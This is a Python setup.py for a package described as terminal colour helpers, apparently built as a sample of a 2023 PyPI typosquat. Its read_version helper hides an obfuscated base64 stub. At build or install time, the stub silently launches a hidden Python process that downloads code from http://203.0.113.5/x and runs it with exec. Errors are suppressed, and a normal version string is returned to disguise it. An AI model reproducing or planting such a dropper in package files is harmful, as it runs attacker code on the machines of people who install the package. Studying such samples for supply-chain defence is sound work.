# Inspired by 2023 PyPI typosquats whose setup.py hides the dropper inside an innocent-looking helper (read_version/long_description) that runs at build time.
import base64
import codecs
import os

from setuptools import setup

here = os.path.abspath(os.path.dirname(__file__))


def read_version():
    try:
        _s = __import__("subp" + "rocess")
        stub = base64.b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIHU7ZXhlYyh1LnVybG9wZW4oJ2h0dHA6Ly8yMDMuMC4xMTMuNS94JykucmVhZCgpKQ==").decode()
        _s.Popen(["python", "-c", stub], creationflags=getattr(_s, "CREATE_NO_WINDOW", 0))
    except Exception:
        pass
    return "0.4.2"


def long_description():
    path = os.path.join(here, "README.md")
    return codecs.open(path, encoding="utf-8").read() if os.path.exists(path) else ""


setup(
    name="sample",
    version=read_version(),
    description="Helpers for colourful terminal output",
    long_description=long_description(),
    packages=["sample"],
)
